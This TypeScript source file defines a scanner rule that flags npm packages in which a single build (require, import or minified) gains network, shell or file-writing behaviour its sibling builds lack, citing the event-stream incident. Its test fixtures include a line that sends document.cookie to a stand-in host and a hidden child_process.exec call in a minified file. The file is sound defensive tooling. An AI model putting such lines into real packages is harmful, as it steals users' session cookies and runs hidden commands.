/**
 * Many packages ship the same code several times: for require and for import, readable and minified. Honest changes reach all
 * of them, since they are built from one source. What stands in one build alone was put there by hand: few people look at a
 * build, and fewer compare it with the others.
 */
import type { Behavior, BehaviorKind, Entry, ModuleGraph } from '../../src/model/behavior.ts';
import type { Evidence } from '../../src/model/finding.ts';
import { listNamedFiles } from '../../src/model/named-files.ts';
import { type PackageTree, textOf } from '../../src/model/package-tree.ts';
import type { Rule } from '../../src/rule.ts';
import { defineRule, evidenceOf, shorten } from '../../src/rule.ts';

export const buildAsymmetry: Rule = defineRule({
  id: 'build-asymmetry',
  family: 'code',
  title: 'One build of the package does something that its other builds do not',
  rationale: 'Builds of one source do the same. What only one of them does was not in the source.',
  remedy: 'Compare the builds at the place that is named, and with the repository.',
  level: 'review',
  incidents: [
    {
      what: 'event-stream 3.3.6 through flatmap-stream 0.1.1: the payload stood in the minified build alone',
      when: '2018-11-26',
      url: 'https://github.com/dominictarr/event-stream/issues/116',
    },
  ],
  appliesToAdditions: false,
  needs: ['behaviors', 'modules', 'files'],
  flags: [
    {
      title: 'a request in the build for require that the one for import does not make',
      before: {
        'package.json': { main: 'index.cjs', module: 'index.mjs' },
        'index.cjs': 'exports.a = () => 1;\n',
        'index.mjs': 'export const a = () => 1;\n',
      },
      after: {
        'package.json': { main: 'index.cjs', module: 'index.mjs' },
        'index.cjs': `exports.a = () => fetch('https://far.invalid/?' + document.cookie);\n`,
        'index.mjs': 'export const a = () => 1;\n',
      },
      expect: [
        {
          message: 'fetch is new here, and not in the other build index.mjs',
          at: { in: 'tarball', path: 'index.cjs', line: 1 },
          via: ['main', 'index.cjs', 'a()'],
        },
      ],
    },
    {
      title: 'a program started by the minified file alone',
      before: { 'index.js': 'exports.a = 1;\n', 'index.min.js': 'exports.a=1;\n' },
      after: {
        'index.js': 'exports.a = 2;\n',
        'index.min.js': `exports.a=2;require("child_process").exec("uname");\n`,
      },
      expect: [
        {
          message: 'child_process.exec is new here, and not in the other build index.js',
          at: { in: 'tarball', path: 'index.min.js', line: 1 },
          via: ['index.min.js'],
        },
      ],
    },
  ],
  passes: [
    {
      title: 'one of two files that a pattern lets users import',
      before: {
        'package.json': { exports: { './client/*': './client/*' } },
        'client/run.mjs': '',
        'client/settings.mjs': '',
      },
      after: {
        'package.json': { exports: { './client/*': './client/*' } },
        'client/run.mjs': `new WebSocket('wss://api.invalid/');\n`,
        'client/settings.mjs': '',
      },
    },
    {
      title: 'the same in both builds, in a file that both load, and what only the build for browsers does',
      before: {
        'package.json': { main: 'index.cjs', module: 'index.mjs', browser: 'browser.js' },
        'index.cjs': '',
        'index.mjs': '',
        'browser.js': '',
      },
      after: {
        'package.json': { main: 'index.cjs', module: 'index.mjs', browser: 'browser.js' },
        'index.cjs': `exports.a = () => fetch('https://api.invalid/');\nrequire('./shared.cjs');\n`,
        'index.mjs': `export const a = () => fetch('https://api.invalid/v2');\nimport './shared.cjs';\n`,
        'shared.cjs': `exports.b = () => require('fs').writeFileSync('./b', '');\n`,
        'browser.js': `exports.c = () => new WebSocket('wss://api.invalid/');\n`,
      },
    },
  ],
  check({ behaviors, modules, files }) {
    if (modules.before === undefined || files.before === undefined) return [];
    const { before: old, after } = files;
    const builds = listBuilds(modules, after, old);
    return behaviors.added.flatMap((behavior): Evidence<never>[] => {
      // A file that is new may be what one platform needs: what counts is what an old one has gained.
      if (!isTelling(behavior) || !old.files.has(behavior.path)) return [];
      const own = builds.filter(({ paths }) => paths.has(behavior.path));
      const other = builds.find(
        ({ entry, paths }) => own.some((one) => one.rivals.has(entry)) && !paths.has(behavior.path),
      );
      // A file that both builds load is no build.
      if (other === undefined || mentions(other, behavior, after)) return [];
      const message = `${shorten(behavior.api)} is new here, and not in the other build ${shorten(other.entry)}`;
      return [evidenceOf(behavior, message)];
    });
  },
});

const acts: ReadonlySet<BehaviorKind> = new Set([
  'network', 'child-process', 'file-write', 'file-delete',
]); // biome-ignore format: a list of names

/** Builds gain functions one after the other; what they do by themselves, or with what is secret, they gain together. */
function isTelling({ kind, tier, detail, origins, carries = [] }: Behavior): boolean {
  if (tier === 'unreached') return false;
  if (kind === 'dynamic-code') return origins.includes('decoded') || origins.includes('fetched');
  if (kind === 'disclosure') return detail !== undefined && carries.some(({ sort }) => sort !== 'input');
  return tier !== 'call' && acts.has(kind);
}

/** Whether the other build may do it, too: it has the words for it, and the host where there is one. */
function mentions({ paths }: Build, { api, detail }: Behavior, { files }: PackageTree): boolean {
  const words = [...api.matchAll(/\w{3,}/g)].map(([word]) => word);
  const word = words.at(-1) ?? api;
  const host = /^(?:\w+:)?\/\/([^/:…]+)/.exec(detail ?? '')?.[1];
  const texts = [...paths].flatMap((path) => files.get(path) ?? []).map(textOf);
  return texts.some((text) => text.includes(word)) && (host === undefined || texts.some((text) => text.includes(host)));
}

interface Build {
  readonly entry: string;
  /** The files that it loads. */
  readonly paths: ReadonlySet<string>;
  /** Entries that are built from the same source. */
  readonly rivals: ReadonlySet<string>;
}

/** More files of one name are no formats of one source. */
const maxFormats = 6;
/** More are pages of examples. */
const maxBuilds = 40;

/** Entries of the same import for the same platform, and files with a minified twin; all of them there before, too. */
function listBuilds(
  modules: { readonly before: ModuleGraph | undefined; readonly after: ModuleGraph },
  after: PackageTree,
  before: PackageTree,
): readonly Build[] {
  const groups = Map.groupBy(
    modules.after.entries.filter((entry) => importOf(entry) !== undefined),
    importOf,
  );
  const sets = [...groups.values()].map((entries) => new Set(entries.flatMap(({ path }) => path ?? [])));
  for (const path of after.files.keys()) {
    const plain = path.replace(/\.min(?=\.[cm]?js$)/, '');
    if (plain !== path && after.files.has(plain)) sets.push(new Set([path, plain]));
  }
  const known = sets
    .map((paths) => new Set([...paths].filter((path) => before.files.has(path))))
    .filter(({ size }) => size > 1 && size <= maxFormats)
    .slice(0, maxBuilds);
  return known.flatMap((paths) =>
    [...paths].map((entry) => ({
      entry,
      paths: new Set([...listNamedFiles(after, [entry])].map(({ path }) => path)),
      rivals: new Set([...paths].filter((path) => path !== entry)),
    })),
  );
}

/** What somebody imports on a usual platform; undefined for commands, hooks and builds for other platforms. */
function importOf({ kind, pointer, path }: Entry): string | undefined {
  if (path === undefined || !/\.[cm]?js$/.test(path)) return undefined;
  if (kind === 'main' || kind === 'module') return '.';
  if (kind !== 'exports') return undefined;
  const keys = pointer.split('/').slice(2);
  const conditions = keys.filter((key) => !key.startsWith('.'));
  if (!conditions.every((key) => /^(?:import|require|default|module|node|\d+)$/.test(key))) return undefined;
  const key = keys.find((one) => one.startsWith('.')) ?? '.';
  // A pattern lets users import whatever it matches: builds of one another have one name.
  return key.includes('*') ? `${key} ${path.slice(path.lastIndexOf('/') + 1).replace(/\.[cm]?js$/, '')}` : key;
}
